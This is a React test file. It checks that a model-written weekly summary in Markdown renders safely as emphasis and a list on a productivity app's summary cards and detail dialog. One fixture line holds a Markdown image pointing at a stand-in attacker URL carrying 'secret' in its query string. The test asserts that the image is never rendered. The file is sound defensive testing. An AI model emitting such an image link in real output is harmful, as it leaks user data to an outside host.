import { screen, within } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { afterEach, describe, expect, it, vi } from "vitest";
import type { WeeklySummary } from "../../../../shared/api/insights.ts";
import { jsonResponse, mockFetch } from "../../../test/mock-fetch.ts";
import { renderWithApp } from "../../../test/render.tsx";
import { InsightsOverview } from "./insights-overview.tsx";
import { WeeklySummaryCard } from "./weekly-summary-card.tsx";

afterEach(() => {
  vi.unstubAllGlobals();
  vi.restoreAllMocks();
});

// What a model may write even when asked for plain text.
const MARKDOWN_TEXT = "**Start** strong next week:\n\n- Finish the report\n- Plan Monday\n\n![x](https://evil.example/?q=secret)";

const summary: WeeklySummary = {
  id: "s-1",
  weekStartDate: "2026-11-16",
  tasksTotal: 10,
  tasksCompleted: 8,
  goalsProgressed: 2,
  insights: [],
  summary: { text: MARKDOWN_TEXT, generatedAt: "2026-11-23T06:00:00.000Z" },
  viewed: true,
  createdAt: "2026-11-23T06:00:00.000Z",
};

/** The summary text shown as the chat shows replies: emphasis and a list, no raw Markdown, no image. */
async function expectRendered(scope: HTMLElement) {
  const strong = await within(scope).findByText("Start", { selector: "strong" });
  expect(strong).toBeInTheDocument();
  const items = within(scope)
    .getAllByRole("listitem")
    .map((item) => item.textContent);
  expect(items).toEqual(expect.arrayContaining(["Finish the report", "Plan Monday"]));
  expect(scope).not.toHaveTextContent("**");
  expect(scope.querySelector("img")).toBeNull();
  expect(scope).toHaveTextContent("x (image: https://evil.example/?q=secret)");
}

describe("a weekly summary written in Markdown", () => {
  it("renders on the sidebar's Weekly Summary card", async () => {
    mockFetch(() => jsonResponse([summary]));
    renderWithApp(<WeeklySummaryCard />);
    await expectRendered(await screen.findByTestId("weekly-summary-card"));
  });

  it("renders on the Insights page's card and in its detail dialog", async () => {
    mockFetch(() => jsonResponse([summary]));
    renderWithApp(<InsightsOverview />);
    const list = await screen.findByRole("list", { name: "Weekly summaries" });
    await expectRendered(list);
    await userEvent.click(within(list).getByRole("button", { name: /^View Details/ }));
    await expectRendered(await screen.findByRole("dialog", { name: "Weekly Summary" }));
  });
});
